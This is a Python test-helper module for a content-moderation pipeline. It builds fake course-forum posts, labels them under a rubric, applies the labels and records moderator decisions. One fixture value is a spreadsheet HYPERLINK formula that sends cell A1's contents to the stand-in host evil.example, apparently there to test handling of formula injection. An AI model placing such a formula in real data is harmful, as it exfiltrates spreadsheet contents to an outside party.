"""A store labelled under the course rubric for the review queue's tests: posts the fake model
labels ``needs_review`` (action ``review``), ``solution_leak`` (``hide``) and ``ok`` (``none``),
applied, and moderators' decisions written as an import writes them."""

from __future__ import annotations

import datetime as dt
from pathlib import Path
from typing import Any

from sqlalchemy.engine import Engine

from backfill_assets.domain.policy.file import parse_policy
from backfill_assets.domain.policy.rubric import Rubric
from backfill_assets.ledger.labels.apply import apply_partitions
from backfill_tests.conftest import import_records
from backfill_tests.decision_helpers import DECIDED_AT, record_decision
from backfill_tests.pipeline_helpers import refs_for, run
from backfill_tests.policy_helpers import COURSE_V5, versions_of

TENANTS = ("learn", "code-club")
# Post id prefix -> text; the fake model's label under the course rubric in the comment.
TEXTS = {
    "rev": "Half my code below, is this needs_review?",  # needs_review: queued
    "leak": "My full solution for assignment 3, copy it (SOL-1)",  # solution_leak: hidden
    "ok": "Week 3 lecture notes are up, thanks!",  # ok: nothing applies
}
# A text a spreadsheet would run as a formula, labelled needs_review.
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"needs_review")'
# How many posts of each text a tenant has (learn more than code-club).
PER_TENANT = {"learn": 3, "code-club": 2}


def records() -> list[dict[str, str]]:
    """The posts: ``<prefix>-<n>`` per text, and ``formula`` for learn."""
    out = [
        {"tenant_id": t, "post_id": f"{prefix}-{n}", "text": f"{text} #{n}"}
        for t in TENANTS
        for prefix, text in TEXTS.items()
        for n in range(PER_TENANT[t])
    ]
    return [*out, {"tenant_id": "learn", "post_id": "formula", "text": FORMULA}]


def course_v6(tmp_path: Path) -> Path:
    """The course rubric v6: v5 with rule HAR-1 renamed HAR-2 (a decision citing HAR-1 no
    longer holds under it)."""
    text = COURSE_V5.read_text("utf-8")
    assert text.count("id: HAR-1") == 1
    path = tmp_path / "course-v6.yaml"
    path.write_text(
        text.replace('version: "5"', 'version: "6"').replace("id: HAR-1", "id: HAR-2"), "utf-8"
    )
    return path


def label_and_apply(engine: Engine, policy_file: Path = COURSE_V5) -> Rubric:
    """Label every tenant under ``policy_file`` with the fake model and apply the labels."""
    rubric = Rubric(parse_policy(policy_file.read_text("utf-8")))
    run(engine, TENANTS, versions=versions_of(rubric), rubric=rubric)
    every_slice = refs_for(["learn"], [0])[0].at_level(0).slices  # each tenant lives in s00
    with engine.begin() as conn:
        apply_partitions(
            conn, [(t, every_slice) for t in TENANTS], versions_of(rubric), rubric.policy
        )
    return rubric


def labelled_store(engine: Engine, tmp_path: Path) -> Rubric:
    """The posts imported (one slice a tenant), labelled and applied under v5."""
    import_records(engine, tmp_path, records(), slice_target=5_000)
    return label_and_apply(engine)


def decide(
    engine: Engine,
    rubric: Rubric,
    tenant: str,
    post_id: str,
    label: str,
    rule_ids: str = "",
    minutes: int = 0,
) -> Any:
    """A moderator's decision about a post's current text under ``rubric``, stored and
    applied as ``decisions import`` does; returns what the apply did."""
    at = DECIDED_AT + dt.timedelta(minutes=minutes)
    return record_decision(
        engine, tenant, post_id, label, policy=rubric.policy, rules=rule_ids, at=at
    )
